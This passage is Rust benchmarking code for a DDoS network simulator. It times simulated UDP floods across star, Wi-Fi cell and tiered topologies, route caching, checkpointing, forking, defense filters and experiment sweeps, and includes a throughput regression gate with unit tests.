    });
    let speedup = calendar / reference;
    println!(
        "{name}: {ops} ops | calendar {calendar:.0}/s | reference heap {reference:.0}/s | speedup {speedup:.2}x"
    );
    djson::Json::obj([
        ("ops", djson::Json::U64(ops)),
        ("calendar_events_per_sec", djson::Json::F64(calendar)),
        ("reference_events_per_sec", djson::Json::F64(reference)),
        ("speedup", djson::Json::F64(speedup)),
        ("peak_rss_kb", peak_rss_json()),
    ])
}

#[derive(Default, Clone, Copy)]
struct Sink;
impl Application for Sink {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.udp_bind(9).expect("bind");
    }
    fn on_packet(&mut self, _ctx: &mut Ctx<'_>, _p: &Packet) {}
    fn fork(&self, _map: &netsim::ForkMap) -> Option<Box<dyn Application>> {
        Some(Box::new(*self))
    }
}

#[derive(Clone, Copy)]
struct Blaster {
    dst: SocketAddr,
    interval: Duration,
    /// Initial offset before the first send. Phase-aligned senders on a
    /// shared Wi-Fi cell collide every tick; staggering models real
    /// devices' independent clocks.
    phase: Duration,
}
impl Application for Blaster {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.udp_bind(1000).expect("bind");
        ctx.set_timer(self.phase, 0);
    }
    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _t: u64) {
        let _ = ctx.udp_send(1000, self.dst, Payload::empty(), 512);
        ctx.set_timer(self.interval, 0);
    }
    fn fork(&self, _map: &netsim::ForkMap) -> Option<Box<dyn Application>> {
        Some(Box::new(*self))
    }
}

/// A whole simulation under flood load: many spokes blasting one sink
/// through a star fabric — the packet hot path end to end. Reports
/// simulated packets per wall-clock second and the peak event-queue depth.
fn whole_sim(spokes: usize, sim_secs: u64) -> djson::Json {
    let mut sim = Simulator::new(3);
    let mut star = StarTopology::new(&mut sim, "fabric");
    let sink_node = sim.add_node("tserver");
    let m = star.attach(
        &mut sim,
        sink_node,
        LinkConfig::new(10_000_000, Duration::from_millis(1)),
    );
    sim.install_app(sink_node, Box::new(Sink));
    for i in 0..spokes {
        let n = sim.add_node(format!("dev{i}"));
        star.attach(&mut sim, n, LinkConfig::new(1_000_000, Duration::from_millis(2)));
        sim.install_app(
            n,
            Box::new(Blaster {
                dst: SocketAddr::new(m.addr_v4, 9),
                interval: Duration::from_micros(4320), // saturate 1 Mbps with 540 B frames
                phase: Duration::ZERO,
            }),
        );
    }
    let start = Instant::now();
    sim.run_until(SimTime::from_secs(sim_secs));
    let elapsed = start.elapsed().as_secs_f64().max(1e-9);
    let s = sim.stats();
    let packets = s.packets_sent + s.packets_delivered + s.total_dropped();
    let pps = packets as f64 / elapsed;
    let peak = sim.peak_pending_events();
    println!(
        "whole-sim: {spokes} spokes x {sim_secs}s sim in {elapsed:.2}s wall | {pps:.0} packets/s | peak queue depth {peak}"
    );
    djson::Json::obj([
        ("spokes", djson::Json::U64(spokes as u64)),
        ("sim_seconds", djson::Json::U64(sim_secs)),
        ("wall_seconds", djson::Json::F64(elapsed)),
        ("packets", djson::Json::U64(packets)),
        ("packets_per_sec", djson::Json::F64(pps)),
        ("peak_pending_events", djson::Json::U64(peak as u64)),
        ("peak_rss_kb", peak_rss_json()),
    ])
}

/// Builds the large multi-hop topology: `cells` Wi-Fi cells, each a router
/// with a point-to-point uplink into a backbone, with `devs_per_cell`
/// station devices per cell blasting the target server attached to the
/// backbone. Every device gets dual-stack host routes on the backbone
/// (exactly how [`netsim::topology::TieredTopology`] provisions members),
/// so at 2,000 devices the backbone's route table holds ~4,000 entries —
/// the table the naive per-packet linear scan has to walk on every
/// forwarded packet, and the route cache reduces to one hash probe.
fn build_large_topology(cells: usize, devs_per_cell: usize, route_cache: bool) -> Simulator {
    build_large_topology_with_nodes(cells, devs_per_cell, route_cache).0
}

/// [`build_large_topology`], also returning the backbone and target-server
/// node handles plus the flood target address (the nodes scenario defenses
/// deploy filters on, and the destination those filters inspect).
fn build_large_topology_with_nodes(
    cells: usize,
    devs_per_cell: usize,
    route_cache: bool,
) -> (Simulator, netsim::NodeId, netsim::NodeId, SocketAddr) {
    use netsim::topology::AddrAllocator;
    use netsim::WifiConfig;

    let mut sim = Simulator::new(11);
    sim.set_route_cache(route_cache);
    let mut alloc = AddrAllocator::new();

    let backbone = sim.add_node("backbone");
    sim.set_forwarding(backbone, true);

    // Target server on a fat backbone link.
    let tserver = sim.add_node("tserver");
    let (tv4, tv6) = alloc.next_pair();
    let (bv4, bv6) = alloc.next_pair();
    let t_if = sim.add_iface(tserver, vec![tv4, tv6]);
    let bt_if = sim.add_iface(backbone, vec![bv4, bv6]);
    sim.connect_p2p(t_if, bt_if, LinkConfig::new(1_000_000_000, Duration::from_millis(1)))
        .expect("fresh ifaces");
    sim.add_default_route(tserver, t_if);
    sim.add_route(backbone, tv4, 32, bt_if);
    sim.add_route(backbone, tv6, 128, bt_if);
    sim.install_app(tserver, Box::new(Sink));
    let target = SocketAddr::new(tv4, 9);

    for c in 0..cells {
        let router = sim.add_node(format!("router{c}"));
        sim.set_forwarding(router, true);

        // Uplink: cell router <-> backbone.
        let (rv4, rv6) = alloc.next_pair();
        let (ubv4, ubv6) = alloc.next_pair();
        let r_up = sim.add_iface(router, vec![rv4, rv6]);
        let b_up = sim.add_iface(backbone, vec![ubv4, ubv6]);
        sim.connect_p2p(r_up, b_up, LinkConfig::new(100_000_000, Duration::from_millis(2)))
            .expect("fresh ifaces");
        sim.add_default_route(router, r_up);

        // The cell's radio: router interface is the channel gateway.
        let chan = sim.add_wifi_channel(WifiConfig::default());
        let (gw4, gw6) = alloc.next_pair();
        let r_wifi = sim.add_iface(router, vec![gw4, gw6]);
        sim.attach_wifi(r_wifi, chan).expect("fresh iface");
        sim.set_wifi_gateway(chan, r_wifi);

        for d in 0..devs_per_cell {
            let dev = sim.add_node(format!("dev{c}x{d}"));
            let (dv4, dv6) = alloc.next_pair();
            let d_if = sim.add_iface(dev, vec![dv4, dv6]);
            sim.attach_wifi(d_if, chan).expect("fresh iface");
            sim.add_default_route(dev, d_if);
            // Downstream host routes: router reaches the device over the
            // radio; the backbone reaches it via this cell's uplink.
            sim.add_route(router, dv4, 32, r_wifi);
            sim.add_route(router, dv6, 128, r_wifi);
            sim.add_route(backbone, dv4, 32, b_up);
            sim.add_route(backbone, dv6, 128, b_up);
            sim.install_app(
                dev,
                Box::new(Blaster {
                    dst: target,
                    // Modest per-device rate: the interesting load is the
                    // number of multi-hop forwarding decisions, not radio
                    // congestion inside one cell.
                    interval: Duration::from_millis(50),
                    // Spread in-cell senders across the interval and skew
                    // cells slightly against each other.
                    phase: Duration::from_micros((d as u64) * 2_500 + (c as u64) * 13),
                }),
            );
        }
    }
    (sim, backbone, tserver, target)
}

/// Builds the large topology and runs it under load; returns packet count,
/// packets per wall-clock second, and wall seconds.
fn large_topology_run(
    cells: usize,
    devs_per_cell: usize,
    sim_secs: u64,
    route_cache: bool,
) -> (u64, f64, f64) {
    let mut sim = build_large_topology(cells, devs_per_cell, route_cache);
    let start = Instant::now();
    sim.run_until(SimTime::from_secs(sim_secs));
    let elapsed = start.elapsed().as_secs_f64().max(1e-9);
    let s = sim.stats();
    let packets = s.packets_sent + s.packets_delivered + s.total_dropped();
    (packets, packets as f64 / elapsed, elapsed)
}

/// Checkpoint cost: full-world state digests (`Simulator::state_digests`,
/// the dominant cost of writing a `ddosim.checkpoint/1` snapshot) over the
/// large multi-hop topology after it has accumulated load — thousands of
/// nodes, interfaces, Wi-Fi stations, and pending events to fold.
fn checkpoint_gauge(cells: usize, devs_per_cell: usize, sim_secs: u64, reps: usize) -> djson::Json {
    const SNAPSHOTS_PER_REP: u64 = 8;
    let devices = cells * devs_per_cell;
    let mut sim = build_large_topology(cells, devs_per_cell, true);
    sim.run_until(SimTime::from_secs(sim_secs));
    let layers = sim.state_digests().len() as u64; // also warms caches
    let (_, snapshots_per_sec) = best_rate(reps, || {
        let mut acc = 0u64;
        for _ in 0..SNAPSHOTS_PER_REP {
            for (_, d) in sim.state_digests() {
                acc = acc.wrapping_add(d);
            }
        }
        std::hint::black_box(acc);
        SNAPSHOTS_PER_REP
    });
    println!(
        "checkpoint: {devices} devices, {layers} layers | {snapshots_per_sec:.1} snapshots/s"
    );
    djson::Json::obj([
        ("devices", djson::Json::U64(devices as u64)),
        ("layers", djson::Json::U64(layers)),
        ("snapshots_per_sec", djson::Json::F64(snapshots_per_sec)),
        ("peak_rss_kb", peak_rss_json()),
    ])
}

/// The scale scenario: the same large topology measured twice — once with
/// the route cache off (reference linear scans) and once with it on — so
/// the snapshot records the fast path's speedup, not just its absolute
/// rate. Packet counts must match exactly: the cache is an optimization,
/// never a behavior change.
fn large_topology(cells: usize, devs_per_cell: usize, sim_secs: u64) -> djson::Json {
    let devices = cells * devs_per_cell;
    let (naive_packets, naive_pps, naive_wall) =
        large_topology_run(cells, devs_per_cell, sim_secs, false);
    let (packets, pps, wall) = large_topology_run(cells, devs_per_cell, sim_secs, true);
    assert_eq!(
        packets, naive_packets,
        "route cache must not change simulation behavior"
    );
    let speedup = pps / naive_pps;
    println!(
        "large-topology: {devices} devices in {cells} cells x {sim_secs}s sim | \
         cached {pps:.0} packets/s ({wall:.2}s wall) | naive {naive_pps:.0} packets/s \
         ({naive_wall:.2}s wall) | speedup {speedup:.2}x"
    );
    djson::Json::obj([
        ("cells", djson::Json::U64(cells as u64)),
        ("devices", djson::Json::U64(devices as u64)),
        ("sim_seconds", djson::Json::U64(sim_secs)),
        ("packets", djson::Json::U64(packets)),
        ("packets_per_sec", djson::Json::F64(pps)),
        ("wall_seconds", djson::Json::F64(wall)),
        ("packets_per_sec_naive", djson::Json::F64(naive_pps)),
        ("wall_seconds_naive", djson::Json::F64(naive_wall)),
        ("speedup_vs_naive", djson::Json::F64(speedup)),
        ("peak_rss_kb", peak_rss_json()),
    ])
}

/// Scenario-tree cost: K alternative futures branching at T = half the
/// horizon on the large multi-hop world, once via in-memory forking
/// ([`Simulator::fork`] of the shared prefix, then run each branch) and
/// once via the replay alternative (rebuild the world from scratch and
/// re-run the `0 → T` prefix for every branch — what checkpoint-restore
/// does K times over). Every branch runs the identical future, so both
/// paths must report exactly the same packet totals; the gauge is
/// branches completed per second on the fork path, with the speedup over
/// replay recorded alongside.
fn fork_gauge(cells: usize, devs_per_cell: usize, sim_secs: u64, branches: usize) -> djson::Json {
    let devices = cells * devs_per_cell;
    let fork_at = sim_secs / 2;
    let mut parent = build_large_topology(cells, devs_per_cell, true);
    parent.run_until(SimTime::from_secs(fork_at));

    let map = netsim::ForkMap::new();

    // Branch acquisition, fork path: K runnable worlds standing at T.
    let start = Instant::now();
    let mut forks: Vec<Simulator> = (0..branches)
        .map(|_| parent.fork(&map).expect("the bench world is forkable"))
        .collect();
    let fork_wall = start.elapsed().as_secs_f64().max(1e-9);

    // Branch acquisition, replay path: rebuild from scratch and re-run the
    // 0→T prefix for every branch.
    let start = Instant::now();
    let mut replays: Vec<Simulator> = (0..branches)
        .map(|_| {
            let mut world = build_large_topology(cells, devs_per_cell, true);
            world.run_until(SimTime::from_secs(fork_at));
            world
        })
        .collect();
    let replay_wall = start.elapsed().as_secs_f64().max(1e-9);

    // The futures themselves cost the same either way; run both sets to
    // the horizon and hold them to identical packet totals.
    let total = |sim: &Simulator| {
        let s = sim.stats();
        s.packets_sent + s.packets_delivered + s.total_dropped()
    };
    let start = Instant::now();
    for branch in &mut forks {
        branch.run_until(SimTime::from_secs(sim_secs));
    }
    let run_wall = start.elapsed().as_secs_f64().max(1e-9);
    for world in &mut replays {
        world.run_until(SimTime::from_secs(sim_secs));
        assert_eq!(
            total(world),
            total(&forks[0]),
            "a forked branch must replay the identical future"
        );
    }

    let branches_per_sec = branches as f64 / fork_wall;
    let speedup = replay_wall / fork_wall;
    let end_to_end = (replay_wall + run_wall) / (fork_wall + run_wall);
    println!(
        "fork: {devices} devices, {branches} branches at t={fork_at}s of {sim_secs}s | \
         fork {fork_wall:.2}s | replay restore {replay_wall:.2}s | suffix runs {run_wall:.2}s | \
         {branches_per_sec:.2} branches/s | restore speedup {speedup:.2}x | end-to-end {end_to_end:.2}x"
    );
    djson::Json::obj([
        ("devices", djson::Json::U64(devices as u64)),
        ("branches", djson::Json::U64(branches as u64)),
        ("fork_at_secs", djson::Json::U64(fork_at)),
        ("sim_seconds", djson::Json::U64(sim_secs)),
        ("packets_per_branch", djson::Json::U64(total(&forks[0]))),
        ("fork_wall_seconds", djson::Json::F64(fork_wall)),
        ("replay_wall_seconds", djson::Json::F64(replay_wall)),
        ("suffix_run_wall_seconds", djson::Json::F64(run_wall)),
        ("branches_per_sec", djson::Json::F64(branches_per_sec)),
        ("speedup_vs_replay", djson::Json::F64(speedup)),
        ("end_to_end_speedup", djson::Json::F64(end_to_end)),
        ("peak_rss_kb", peak_rss_json()),
    ])
}

/// Scenario-defense cost: the large multi-hop world again, but with the
/// scenario subsystem's packet filters armed the whole run — a per-source
/// rate limiter on the target server (one token bucket per flooding
/// device, probed on every delivery) and an ISP egress-block rule on the
/// backbone for a port the flood does not use (evaluated and passed on
/// every forwarded packet). The gauge is packets per wall second with the
/// filter stack in the path; the ratio against the unfiltered topology is
/// recorded alongside.
fn scenario_gauge(cells: usize, devs_per_cell: usize, sim_secs: u64) -> djson::Json {
    let devices = cells * devs_per_cell;
    let (_, clean_pps, _) = large_topology_run(cells, devs_per_cell, sim_secs, true);
    let (mut sim, backbone, tserver, target) =
        build_large_topology_with_nodes(cells, devs_per_cell, true);
    // Generous per-source budget: the gauge measures filter evaluation
    // cost, not drop behavior, so the buckets rarely run dry.
    sim.push_node_filter(
        tserver,
        netsim::FilterRule::RateLimit {
            rate_bps: 1_000_000,
            burst_bytes: 64 * 1024,
            buckets: std::collections::BTreeMap::new(),
        },
    );
    sim.push_node_filter(
        backbone,
        netsim::FilterRule::EgressBlock { dst: target.ip(), port: Some(80) },
    );
    let start = Instant::now();
    sim.run_until(SimTime::from_secs(sim_secs));
    let elapsed = start.elapsed().as_secs_f64().max(1e-9);
    let s = sim.stats();
    let packets = s.packets_sent + s.packets_delivered + s.total_dropped();
    let pps = packets as f64 / elapsed;
    let overhead = clean_pps / pps.max(1e-9);
    println!(
        "scenario: {devices} devices with rate-limit + egress filters x {sim_secs}s sim | \
         {pps:.0} packets/s ({elapsed:.2}s wall) | unfiltered {clean_pps:.0} packets/s | \
         filter overhead {overhead:.2}x"
    );
    djson::Json::obj([
        ("devices", djson::Json::U64(devices as u64)),
        ("sim_seconds", djson::Json::U64(sim_secs)),
        ("packets", djson::Json::U64(packets)),
        ("packets_per_sec", djson::Json::F64(pps)),
        ("wall_seconds", djson::Json::F64(elapsed)),
        ("packets_per_sec_unfiltered", djson::Json::F64(clean_pps)),
        ("filter_overhead", djson::Json::F64(overhead)),
        ("peak_rss_kb", peak_rss_json()),
    ])
}

/// Sweep-engine cost: paired-CRN replicates of a small botnet world pushed
/// through the streaming experiment runner
/// ([`ddosim_core::try_run_configs_streamed`]) — the path every figure
/// sweep, ablation, and scenario grid cell takes. Each row pins its RNG
/// plan ([`ddosim_core::RngPlan::pinned`]) exactly as paired sweeps do, so
/// the gauge covers seed derivation, world build, run, and streamed row
/// delivery end to end. The gauge is completed rows per wall second; every
/// row must succeed and be streamed exactly once.
fn sweep_gauge(rows: usize, devs: usize, sim_secs: u64, reps: usize) -> djson::Json {
    use ddosim_core::{AttackSpec, RngPlan, SimulationBuilder};
    let configs: Vec<_> = (0..rows as u64)
        .map(|r| {
            let noise = 0xD05 + r;
            SimulationBuilder::new()
                .devs(devs)
                .sim_time(Duration::from_secs(sim_secs))
                .attack_at(Duration::from_secs(sim_secs / 3))
                .attack(AttackSpec {
                    vector: protocols::AttackVector::UdpPlain,
                    duration: Duration::from_secs(sim_secs / 3),
                    payload_bytes: None,
                    port: 80,
                })
                .seed(noise)
                .rng(RngPlan::pinned(noise))
                .config()
                .clone()
        })
        .collect();
    let (_, rows_per_sec) = best_rate(reps, || {
        let mut streamed = 0u64;
        let outcomes = ddosim_core::try_run_configs_streamed(configs.clone(), |_, outcome| {
            assert!(outcome.is_ok(), "bench sweep rows are valid configs");
            streamed += 1;
        });
        assert_eq!(streamed as usize, outcomes.len(), "every row streams exactly once");
        streamed
    });
    println!("sweep: {rows} rows x {devs} devs x {sim_secs}s sim | {rows_per_sec:.2} rows/s");
    djson::Json::obj([
        ("rows", djson::Json::U64(rows as u64)),
        ("devs", djson::Json::U64(devs as u64)),
        ("sim_seconds", djson::Json::U64(sim_secs)),
        ("rows_per_sec", djson::Json::F64(rows_per_sec)),
        ("peak_rss_kb", peak_rss_json()),
    ])
}

/// Million-device ambition check: a two-tier point-to-point world at
/// ≥100k devices (full mode; 10k in smoke), every device a periodic
/// sender routed dev → region router → backbone → target server. The gauge
/// proves two things at once: forwarding throughput holds at the paper's
/// target scale, and the world *fits* — peak RSS divided by device count
/// must stay under 2 KiB/device in full mode (struct-of-arrays node
/// arenas, lazily-allocated link queues, interned names).
///
/// Runs FIRST in `main()`: `VmHWM` is a process-lifetime high-water mark,
/// so only the first scenario can attribute peak RSS to itself.
fn huge_topology(devices: usize, sim_secs: u64, check_rss: bool) -> djson::Json {
    use netsim::topology::TieredTopology;
    let regions = (devices / 500).max(1);
    let build_start = Instant::now();
    let mut sim = Simulator::new(17);
    let mut net = TieredTopology::new(
        &mut sim,
        "net",
        regions,
        LinkConfig::new(100_000_000, Duration::from_millis(2)),
    );
    let tserver = sim.add_node("tserver");
    let mt = net.attach_backbone(
        &mut sim,
        tserver,
        LinkConfig::new(1_000_000_000, Duration::from_millis(1)),
    );
    sim.install_app(tserver, Box::new(Sink));
    let target = SocketAddr::new(mt.addr_v4, 9);
    for d in 0..devices {
        let n = sim.add_node(format!("dev{d}"));
        net.attach_region(
            &mut sim,
            d % regions,
            n,
            LinkConfig::new(1_000_000, Duration::from_millis(5)),
        );
        sim.install_app(
            n,
            Box::new(Blaster {
                dst: target,
                // Modest per-device rate: the load of interest is breadth
                // (every device's timer + multi-hop forwarding decision),
                // not saturating any one uplink.
                interval: Duration::from_millis(250),
                // Coprime stride spreads senders uniformly over the
                // interval, deterministically.
                phase: Duration::from_micros((d as u64).wrapping_mul(241) % 250_000),
            }),
        );
    }
    let build_wall = build_start.elapsed().as_secs_f64().max(1e-9);
    let start = Instant::now();
    sim.run_until(SimTime::from_secs(sim_secs));
    let elapsed = start.elapsed().as_secs_f64().max(1e-9);
    let s = sim.stats();
    let packets = s.packets_sent + s.packets_delivered + s.total_dropped();
    let pps = packets as f64 / elapsed;
    let peak_kb = peak_rss_kb();
    let bytes_per_device = peak_kb.map(|kb| kb * 1024 / devices as u64);
    println!(
        "huge-topology: {devices} devices in {regions} regions | built in {build_wall:.2}s | \
         {packets} packets x {sim_secs}s sim in {elapsed:.2}s wall | {pps:.0} packets/s | {} bytes/device peak",
        bytes_per_device.map_or("?".into(), |b| b.to_string()),
    );
    if check_rss {
        let bpd = bytes_per_device.expect("peak RSS is measurable on Linux");
        assert!(
            bpd <= 2048,
            "huge_topology memory gate: {bpd} bytes/device peak RSS exceeds the 2 KiB/device budget"
        );
    }
    djson::Json::obj([
        ("devices", djson::Json::U64(devices as u64)),
        ("regions", djson::Json::U64(regions as u64)),
        ("sim_seconds", djson::Json::U64(sim_secs)),
        ("build_wall_seconds", djson::Json::F64(build_wall)),
        ("packets", djson::Json::U64(packets)),
        ("packets_per_sec", djson::Json::F64(pps)),
        ("wall_seconds", djson::Json::F64(elapsed)),
        (
            "bytes_per_device",
            bytes_per_device.map_or(djson::Json::Null, djson::Json::U64),
        ),
        ("peak_rss_kb", peak_rss_json()),
    ])
}

/// Maximum tolerated throughput loss before the gate fails (25%).
const REGRESSION_TOLERANCE: f64 = 0.25;

/// The throughput gauges the regression gate compares.
const GAUGES: [(&str, &str); 9] = [
    ("event_queue", "calendar_events_per_sec"),
    ("link_saturation", "calendar_events_per_sec"),
    ("whole_sim", "packets_per_sec"),
    ("large_topology", "packets_per_sec"),
    ("checkpoint", "snapshots_per_sec"),
    ("fork", "branches_per_sec"),
    ("scenario", "packets_per_sec"),
    ("sweep", "rows_per_sec"),
    ("huge_topology", "packets_per_sec"),
];

/// Extracts one gauge from a snapshot document.
fn gauge(doc: &djson::Json, section: &str, field: &str) -> Result<f64, String> {
    doc.get(section)
        .and_then(|s| s.get(field))
        .and_then(djson::Json::as_f64)
        .ok_or_else(|| format!("snapshot has no numeric {section}.{field}"))
}

/// Compares every gauge of `current` against `baseline`; returns the
/// human-readable verdict lines and whether any gauge regressed beyond
/// [`REGRESSION_TOLERANCE`].
fn regressions(baseline: &djson::Json, current: &djson::Json) -> Result<(Vec<String>, bool), String> {
    let mut lines = Vec::new();
    let mut failed = false;
    for (section, field) in GAUGES {
        let base = gauge(baseline, section, field)?;
        let cur = gauge(current, section, field)?;
        let ratio = if base > 0.0 { cur / base } else { 1.0 };
        let regressed = ratio < 1.0 - REGRESSION_TOLERANCE;
        lines.push(format!(
            "{section}.{field}: baseline {base:.0}/s, current {cur:.0}/s ({:+.1}%){}",
            (ratio - 1.0) * 100.0,
            if regressed { "  <-- REGRESSION" } else { "" }
        ));
        failed |= regressed;
    }
    Ok((lines, failed))
}

/// The `--compare-only` gate: load, compare, exit nonzero on regression.
fn compare_snapshots(baseline_path: &str, current_path: &str) -> std::process::ExitCode {
    let load = |path: &str| -> Result<djson::Json, String> {
        let text = std::fs::read_to_string(path).map_err(|e| format!("reading {path}: {e}"))?;
        djson::Json::parse(&text).map_err(|e| format!("parsing {path}: {e:?}"))
    };
    let result = load(baseline_path)
        .and_then(|base| load(current_path).map(|cur| (base, cur)))
        .and_then(|(base, cur)| regressions(&base, &cur));
    match result {
        Ok((lines, failed)) => {
            for line in &lines {
                println!("{line}");
            }
            if failed {
                eprintln!(
                    "perfsnap: throughput regressed more than {:.0}% against {baseline_path}",
                    REGRESSION_TOLERANCE * 100.0
                );
                std::process::ExitCode::FAILURE
            } else {
                println!("perfsnap: within {:.0}% of baseline", REGRESSION_TOLERANCE * 100.0);
                std::process::ExitCode::SUCCESS
            }
        }
        Err(msg) => {
            eprintln!("perfsnap: {msg}");
            std::process::ExitCode::from(2)
        }
    }
}

fn main() -> std::process::ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if let Some(i) = args.iter().position(|a| a == "--compare-only") {
        let (Some(base), Some(cur)) = (args.get(i + 1), args.get(i + 2)) else {
            eprintln!("usage: perfsnap --compare-only <baseline.json> <current.json>");
            return std::process::ExitCode::from(2);
        };
        return compare_snapshots(base, cur);
    }
    let out_path = args
        .iter()
        .position(|a| a == "--out")
        .and_then(|i| args.get(i + 1))
        .cloned();
    let smoke = smoke_mode();
    // The pending population matches the paper's scale ambitions: thousands
    // of Devs each holding timers and in-flight frames.
    let (steps, pending, reps, spokes, sim_secs) = if smoke {
        (400_000, 65_536, 2, 20, 5)
    } else {
        (2_000_000, 131_072, 3, 60, 20)
    };
    // The scale scenario: ≥2,000 devices in the full run, a few hundred in
    // smoke (still enough multi-hop routes for the cache to matter).
    let (cells, devs_per_cell, scale_secs) = if smoke { (25, 20, 5) } else { (100, 20, 10) };
    // huge_topology must run before anything else: its bytes-per-device
    // reading divides VmHWM (a lifetime high-water mark) by device count,
    // so no earlier scenario may have inflated the peak. The 2 KiB/device
    // assertion only applies at full scale — at 10k smoke devices the
    // process baseline would dominate the quotient.
    let (huge_devices, huge_secs) = if smoke { (10_000, 2) } else { (100_000, 2) };
    let huge = huge_topology(huge_devices, huge_secs, !smoke);
    let mut rng = SmallRng::seed_from_u64(0xBE7C);
    let eq_schedule = event_queue_schedule(steps, &mut rng);
    let sat_schedule = link_saturation_schedule(steps, &mut rng);

    let event_queue = compare("event-queue", pending, &eq_schedule, reps);
    let link_saturation = compare("link-saturation", pending, &sat_schedule, reps);
    let sim = whole_sim(spokes, sim_secs);
    let scale = large_topology(cells, devs_per_cell, scale_secs);
    let checkpoint = checkpoint_gauge(cells, devs_per_cell, scale_secs, reps);
    let fork = fork_gauge(cells, devs_per_cell, scale_secs, 8);
    let scenario = scenario_gauge(cells, devs_per_cell, scale_secs);
    // Sweep rows are deliberately small worlds: the gauge tracks the
    // runner's fan-out and streaming overhead, not one world's cost.
    let (sweep_rows, sweep_devs, sweep_secs) = if smoke { (16, 6, 90) } else { (48, 10, 150) };
    let sweep = sweep_gauge(sweep_rows, sweep_devs, sweep_secs, reps);

    let out = djson::Json::obj([
        ("schema", djson::Json::Str("ddosim.bench.netsim/1".into())),
        ("smoke", djson::Json::Bool(smoke)),
        ("event_queue", event_queue),
        ("link_saturation", link_saturation),
        ("whole_sim", sim),
        ("large_topology", scale),
        ("checkpoint", checkpoint),
        ("fork", fork),
        ("scenario", scenario),
        ("sweep", sweep),
        ("huge_topology", huge),
    ]);
    match out_path {
        Some(path) => match std::fs::write(&path, out.to_string_pretty()) {
            Ok(()) => println!("wrote {path}"),
            Err(e) => {
                eprintln!("failed to write {path}: {e}");
                return std::process::ExitCode::FAILURE;
            }
        },
        None => ddosim_bench::write_artifact("BENCH_netsim.json", &out.to_string_pretty()),
    }
    std::process::ExitCode::SUCCESS
}

#[cfg(test)]
mod tests {
    use super::*;

    fn snapshot(eq: f64, sat: f64, sim: f64, scale: f64, ck: f64) -> djson::Json {
        snapshot_full(eq, sat, sim, scale, ck, 10.0, 3e6, 20.0, 1e6)
    }

    fn snapshot_with_fork(eq: f64, sat: f64, sim: f64, scale: f64, ck: f64, fk: f64) -> djson::Json {
        snapshot_full(eq, sat, sim, scale, ck, fk, 3e6, 20.0, 1e6)
    }

    #[allow(clippy::too_many_arguments)]
    fn snapshot_full(
        eq: f64,
        sat: f64,
        sim: f64,
        scale: f64,
        ck: f64,
        fk: f64,
        sc: f64,
        sw: f64,
        hg: f64,
    ) -> djson::Json {
        let rate = |v| djson::Json::obj([("calendar_events_per_sec", djson::Json::F64(v))]);
        let pps = |v| djson::Json::obj([("packets_per_sec", djson::Json::F64(v))]);
        djson::Json::obj([
            ("event_queue", rate(eq)),
            ("link_saturation", rate(sat)),
            ("whole_sim", pps(sim)),
            ("large_topology", pps(scale)),
            ("checkpoint", djson::Json::obj([("snapshots_per_sec", djson::Json::F64(ck))])),
            ("fork", djson::Json::obj([("branches_per_sec", djson::Json::F64(fk))])),
            ("scenario", pps(sc)),
            ("sweep", djson::Json::obj([("rows_per_sec", djson::Json::F64(sw))])),
            ("huge_topology", pps(hg)),
        ])
    }

    #[test]
    fn a_scenario_regression_fails_the_gate() {
        let base = snapshot_full(1e6, 2e6, 3e6, 4e6, 50.0, 10.0, 3e6, 20.0, 1e6);
        let cur = snapshot_full(1e6, 2e6, 3e6, 4e6, 50.0, 10.0, 2e6, 20.0, 1e6); // scenario -33%
        let (lines, failed) = regressions(&base, &cur).expect("comparable");
        assert!(failed, "{lines:?}");
    }

    #[test]
    fn a_sweep_regression_fails_the_gate() {
        let base = snapshot_full(1e6, 2e6, 3e6, 4e6, 50.0, 10.0, 3e6, 20.0, 1e6);
        let cur = snapshot_full(1e6, 2e6, 3e6, 4e6, 50.0, 10.0, 3e6, 12.0, 1e6); // sweep -40%
        let (lines, failed) = regressions(&base, &cur).expect("comparable");
        assert!(failed, "{lines:?}");
    }

    #[test]
    fn small_slowdowns_pass_the_gate() {
        let base = snapshot(1e6, 2e6, 3e6, 4e6, 50.0);
        let cur = snapshot(0.8e6, 1.9e6, 3.2e6, 3.5e6, 40.0); // worst gauge -20%
        let (lines, failed) = regressions(&base, &cur).expect("comparable");
        assert!(!failed, "{lines:?}");
        assert_eq!(lines.len(), GAUGES.len());
    }

    #[test]
    fn a_single_large_regression_fails_the_gate() {
        let base = snapshot(1e6, 2e6, 3e6, 4e6, 50.0);
        let cur = snapshot(1e6, 2e6, 2e6, 4e6, 50.0); // whole_sim -33%
        let (lines, failed) = regressions(&base, &cur).expect("comparable");
        assert!(failed);
        assert!(lines.iter().any(|l| l.contains("REGRESSION")));
    }

    #[test]
    fn a_large_topology_regression_fails_the_gate() {
        let base = snapshot(1e6, 2e6, 3e6, 4e6, 50.0);
        let cur = snapshot(1e6, 2e6, 3e6, 2.5e6, 50.0); // large_topology -37.5%
        let (_, failed) = regressions(&base, &cur).expect("comparable");
        assert!(failed);
    }

    #[test]
    fn a_checkpoint_regression_fails_the_gate() {
        let base = snapshot(1e6, 2e6, 3e6, 4e6, 50.0);
        let cur = snapshot(1e6, 2e6, 3e6, 4e6, 30.0); // checkpoint -40%
        let (lines, failed) = regressions(&base, &cur).expect("comparable");
        assert!(failed, "{lines:?}");
    }

    #[test]
    fn a_fork_regression_fails_the_gate() {
        let base = snapshot_with_fork(1e6, 2e6, 3e6, 4e6, 50.0, 10.0);
        let cur = snapshot_with_fork(1e6, 2e6, 3e6, 4e6, 50.0, 6.0); // fork -40%
        let (lines, failed) = regressions(&base, &cur).expect("comparable");
        assert!(failed, "{lines:?}");
    }

    #[test]
    fn malformed_snapshots_are_reported_not_panicked() {
        let err = regressions(&djson::Json::obj([]), &snapshot(1.0, 1.0, 1.0, 1.0, 1.0))
            .expect_err("missing sections");
        assert!(err.contains("event_queue"));
    }

    #[test]
    fn peak_rss_is_available_on_linux() {
        if cfg!(target_os = "linux") {
            let kb = peak_rss_kb().expect("VmHWM parses on Linux");
            assert!(kb > 0);
        }
    }
}
