//! Performance snapshot of the netsim hot path: the bucketed calendar
//! event queue versus the reference binary heap, plus a whole-simulation
//! saturation run. Emits `results/BENCH_netsim.json`.
//!
//! Both queue workloads replay *identical* deterministic schedules into the
//! two [`TimeOrderedQueue`] implementations, so the queue is the only
//! variable:
//!
//! * **event-queue** — a discrete-event main-loop mix: a large pending set,
//!   each pop scheduling a few follow-ups at timer-like offsets from tens
//!   of microseconds to hundreds of milliseconds.
